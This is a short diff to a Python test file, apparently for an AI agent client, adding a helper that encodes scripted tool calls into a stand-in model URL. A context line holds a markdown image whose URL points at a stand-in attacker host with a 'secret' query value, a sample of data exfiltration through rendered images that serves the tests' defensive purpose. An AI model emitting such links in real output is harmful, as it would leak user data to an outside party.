@@ -42,7 +42,7 @@ from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from concurrent.futures import Future
 from dataclasses import dataclass, field
 from typing import Any, cast
-from urllib.parse import parse_qsl, urlsplit
+from urllib.parse import parse_qsl, quote, urlsplit
 
 from tests.doubles.obedient import obey, obey_beside
 
@@ -69,6 +69,12 @@ UNICODE_TEXT = "Größe 12 µm, naïve café 漢字かな 🙂👩‍👩‍👧
 IMAGE_TEXT = "Done ![status](https://attacker.invalid/p.png?q=secret) and [more](https://attacker.invalid/x) [1]."
 SECRET = "provider-internal-text"
 """Stands in every error body: no sentence of ours may repeat it."""
+
+
+def agent(*turns: list[tuple[str, Any]], **options: str) -> str:
+    """The script of a model that uses tools: the calls of each turn, by name and arguments."""
+    rest = "".join(f"&{name}={quote(value)}" for name, value in options.items())
+    return f"agent?calls={quote(json.dumps(turns))}{rest}"
 
 
 @dataclass
